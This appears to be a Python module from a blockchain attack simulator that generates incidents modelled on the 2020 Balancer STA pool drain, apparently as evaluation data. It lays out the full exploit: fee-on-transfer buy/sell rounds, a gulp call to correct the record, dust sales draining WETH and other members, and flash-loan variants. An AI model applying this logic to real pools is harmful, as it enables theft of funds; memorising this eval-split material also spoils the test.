"""A token with a fee on transfer against a pool that keeps records (the Balancer STA pool, 2020).

Every sale of the token makes the pool's record exceed what it holds. Who then buys all that it holds and has
the record corrected pays with dust for everything else in the pool.
"""

from __future__ import annotations

from dataclasses import dataclass, replace

from pipelines.simulation.attacks.family import Family
from pipelines.simulation.attacks.incident import (
    Incident,
    attacker,
    home,
    leave,
    run_flash,
    run_script,
    run_steps,
    runner,
)
from pipelines.simulation.bytecode import SELF, Step
from pipelines.simulation.compile import contract
from pipelines.simulation.engine import Account
from pipelines.simulation.habits.bots import encode_steps
from pipelines.simulation.habits.saving import as_tuples
from pipelines.simulation.habits.weighted_pools import record
from pipelines.simulation.world import ETH, FOREVER, Part, Place, Session, Token, World, step

_DUST = 1000


@dataclass(frozen=True)
class Raid:
    """What is to be done with one pool."""

    place: Place
    token: Token
    """The one with a fee on transfer."""
    rounds: int
    """How often it is bought and sold back before the last purchase."""
    cost: int
    """WETH needed at most, roughly."""


def _weight(world: World, place: Place, token: Token) -> int:
    return int(world.view("weighted_pool", place.address, "getWeight", token.address))


def _options(world: World, most: int) -> list[Raid]:
    """Return the raids that `most` wei can pay for."""
    found = []
    places = world.places.get("weighted_pool", [])
    for place in places if len(places) > 1 else []:
        token = next(t for t in place.tokens if t.kind == "fee_token")
        if world.weth not in place.tokens:
            continue
        pooled = record(world, place, world.weth)
        ratio = _weight(world, place, token) / _weight(world, place, world.weth)
        held = record(world, place, token)
        gap = 1 - world.held(token, place.address) / held
        for rounds in range(3):
            left = gap + 0.0085 * rounds
            if left <= 0.001 or pooled < 4 * ETH:
                continue
            # Six digits, because the last bits of a power differ between processors.
            cost = int(float(f"{pooled * (1 / left) ** ratio * 1.25:.6g}"))
            if cost <= most:
                found.append(Raid(place, token, rounds, cost))
    return found


def deflationary_pool(world: World, incident: Incident) -> Session:
    """Make the record wrong, buy what is there, correct the record, take the rest for dust."""
    own_money = world.chance(0.55)
    most = (1500 if own_money else 3300) * ETH
    options = _options(world, most)
    if not options:
        return
    raid: Raid = world.pick(options)
    who = yield from attacker(world, incident, raid.cost / ETH + 0.5 if own_money else 1.0)
    incident.variant.append("own-money" if own_money else "flash-loan")
    tool = yield from runner(world, incident, who)
    incident.assets.extend(t for t in raid.place.tokens if t is not raid.token)
    if not own_money and world.chance(0.4):
        yield from _by_script(world, incident, who, raid)
    else:
        yield from _by_executor(world, incident, who, tool, raid, own_money=own_money)
    if not incident.exploits:
        return
    incident.finish()
    places = world.places["weighted_pool"]
    if raid.place in places and len(places) > 1:
        places.remove(raid.place)
        world.notes.setdefault("drained_pools", []).append(raid.place)
    yield from home(world, incident, who, tool)
    yield from leave(world, incident, who)


class _Trial:
    """Steps of a raid with the pool's bookkeeping repeated alongside, so that amounts are exact."""

    def __init__(self, world: World, raid: Raid) -> None:
        self.raid = raid
        self.weth = world.weth
        self.steps: list[Step] = []
        pool = raid.place
        self.held = world.held(raid.token, pool.address)
        self.records = {t.address: record(world, pool, t) for t in (world.weth, raid.token)}
        self.mine = 0
        approvals = (world.weth, raid.token)
        self.steps = [step("token", t.address, "approve", pool.address, FOREVER) for t in approvals]

    def _call(self, function: str, *args: object) -> None:
        self.steps.append(step("weighted_pool", self.raid.place.address, function, *args))

    def buy(self, amount: int) -> None:
        """Buy an exact amount of the token with WETH."""
        token = self.raid.token.address
        self._call("swapExactAmountOut", self.weth.address, FOREVER, token, amount)
        self.records[token] -= amount
        self.held -= amount
        self.mine += amount - amount // 100

    def sell(self, amount: int, out: Token) -> None:
        """Sell an exact amount of the token."""
        token = self.raid.token.address
        self._call("swapExactAmountIn", token, amount, out.address, 1)
        self.records[token] += amount
        self.held += amount - amount // 100
        self.mine -= amount

    def rounds(self) -> None:
        """Buy nine tenths and sell them back, as often as planned."""
        for _ in range(self.raid.rounds):
            self.buy(self.held * 9 // 10)
            self.sell(self.mine, self.weth)

    def empty(self) -> None:
        """Buy what is there but dust, correct the record, sell a little for nearly all the WETH."""
        self.buy(self.held - _DUST)
        self._call("gulp", self.raid.token.address)
        self.records[self.raid.token.address] = self.held
        self.sell(_DUST * 10**9, self.weth)

    def rest(self, index: int, out: Token) -> None:
        """Sell a little more for nearly all of another member."""
        self.sell(_DUST * 10 ** (11 + 2 * index), out)


def _whole(world: World, raid: Raid) -> list[Step]:
    trial = _Trial(world, raid)
    trial.rounds()
    trial.empty()
    others = [t for t in raid.place.tokens if t not in (raid.token, world.weth)]
    for index, token in enumerate(others):
        trial.rest(index, token)
    return trial.steps


def _works(world: World, who: Account, tool: Place, steps: list[Step], raid: Raid, *, loan: bool) -> bool:
    """Say whether the steps succeed now: somebody may have corrected the record meanwhile."""
    if loan:
        lender = world.places["flash_lender"][0].address
        call = ("flash", lender, world.weth.address, raid.cost, encode_steps(steps))
        return world.engine.call(who.address, tool.address, contract("executor").data(*call), 0).ok
    data = contract("executor").data("run", as_tuples(steps))
    value = sum(s.value for s in steps)
    return world.engine.call(who.address, tool.address, data, value).ok


def _by_executor(
    world: World, incident: Incident, who: Account, tool: Place, raid: Raid, *, own_money: bool
) -> Part:
    """All in one transaction, or with own money in several."""
    wrap = step("weth", world.weth.address, "deposit", value=raid.cost)
    if own_money and (raid.rounds > 1 or world.chance(0.65)):
        yield from _in_several(world, incident, who, tool, raid, wrap)
        return
    steps = _whole(world, raid) if not own_money else [wrap, *_whole(world, raid)]
    if not _works(world, who, tool, steps, raid, loan=not own_money):
        return
    if own_money:
        yield from run_steps(world, incident, who, tool, steps)
    else:
        yield from run_flash(world, incident, who, tool, steps, raid.cost)


def _in_several(world: World, incident: Incident, who: Account, tool: Place, raid: Raid, wrap: Step) -> Part:
    """Make the record wrong, empty it, take each other member: a transaction each."""
    trial = _Trial(world, raid)
    trial.rounds()
    steps = [wrap, *trial.steps]
    if not _works(world, who, tool, steps, raid, loan=False):
        return
    incident.variant.append("several")
    call = ("run", as_tuples(steps))
    yield incident.call("exploit", who, "executor", tool.address, *call, value=raid.cost)
    for _ in range(9):
        last = _Trial(world, raid)
        last.empty()
        if _works(world, who, tool, last.steps, raid, loan=False):
            break
        again = _Trial(world, replace(raid, rounds=max(1, raid.rounds)))
        again.rounds()
        yield from run_steps(world, incident, who, tool, again.steps)
    yield from run_steps(world, incident, who, tool, last.steps[2:])
    others = [t for t in raid.place.tokens if t not in (raid.token, world.weth)]
    for index, token in enumerate(others):
        amount = _DUST * 10 ** (11 + 2 * index)
        sale = ("swapExactAmountIn", raid.token.address, amount, token.address, 1)
        yield from run_steps(world, incident, who, tool, [step("weighted_pool", raid.place.address, *sale)])


def _by_script(world: World, incident: Incident, who: Account, raid: Raid) -> Part:
    """A contract written for this pool; a stale one is made anew."""
    incident.variant.append("script")
    lender, weth = world.pick(world.places["flash_lender"]).address, world.weth.address
    for _ in range(6):
        inner = [*_whole(world, raid), step("token", weth, "approve", lender, raid.cost * 2)]
        outer = [
            step("flash_lender", lender, "flashLoan", SELF, weth, raid.cost, b""),
            step("token", weth, "transfer", who.address, ETH),
        ]
        done = yield from run_script(world, incident, who, outer, inner=inner)
        if done:
            return


FAMILIES = (
    Family(
        name="deflationary_pool",
        tier="structural",
        split="eval",
        modelled_on="the Balancer STA pool (2020)",
        about="Trade a token with a fee on transfer until a pool's record of it is wrong, correct the "
        "record, pay with dust.",
        run=deflationary_pool,
    ),
)
